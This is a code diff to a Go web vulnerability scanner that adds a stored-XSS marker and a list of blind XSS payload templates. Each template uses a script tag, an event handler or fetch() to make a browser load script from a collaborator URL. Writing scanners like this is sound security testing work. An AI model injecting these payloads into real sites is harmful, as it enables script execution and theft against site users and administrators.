@@ -21,6 +21,10 @@ type XSSTest struct {
 // XSSMarker is used by the scanner to create unique payloads.
 const XSSMarker = "DursgoXSS"
 
+// StoredXSSMarker prefixes the markers the stored XSS scanner submits to writable parameters.
+// It is followed by 10 lower-case hex digits, so that markers pass most input validation.
+const StoredXSSMarker = "dursgostored"
+
 // XSSTests is the slice of XSSTest structs, now with context labels.
 var XSSTests []XSSTest
 
@@ -183,3 +187,16 @@ func init() {
 		},
 	}
 }
+
+// BlindXSSPayloads are the templates of the blind XSS scanner: payloads that make a browser
+// rendering the stored input (e.g., an administration panel or a log viewer) request the
+// collaborator. "{URL}" is replaced with the collaborator URL of the injection point. Payloads
+// that execute script come first; the image tag only proves that the markup was rendered.
+var BlindXSSPayloads = []string{
+	`"><script src="{URL}"></script>`,
+	`'"><img src=x onerror="s=document.createElement('script');s.src='{URL}';document.body.appendChild(s)">`,
+	`</textarea></title><svg onload="fetch('{URL}')">`,
+	`javascript:fetch('{URL}')`,
+	`';fetch('{URL}');//`,
+	`"><img src="{URL}">`,
+}